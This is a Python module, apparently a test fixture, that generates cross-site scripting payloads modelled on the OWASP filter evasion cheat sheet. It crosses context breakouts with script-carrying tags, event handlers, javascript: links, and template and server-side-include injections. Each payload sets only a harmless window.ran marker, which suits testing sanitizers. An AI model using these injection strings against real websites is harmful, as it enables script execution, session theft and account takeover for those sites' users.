"""Payloads: ways of smuggling a script into a page, after the OWASP filter evasion cheat sheet; each would set `window.ran`."""

RUN = "window.ran=1"
# Where the text might stand: plain, in an attribute, in a script, in a comment, in a text area or a title, in a template.
BREAKOUTS = ("", '">', "'>", "</p>", "</script>", "</textarea>", "</title>", "-->", "</style>", "}}", "&quot;>", "\u2028")
CARRIERS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}>",
    f"<video><source onerror={RUN}></video>",
)
LINKS = (f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"data:text/html,<script>{RUN}</script>")
OTHERS = (
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"<!--#exec cmd='{RUN}'-->",
    f"\x00<script>{RUN}</script>",
)

PAYLOADS = tuple(f"{out}{carrier}" for out in BREAKOUTS for carrier in CARRIERS) + LINKS + OTHERS
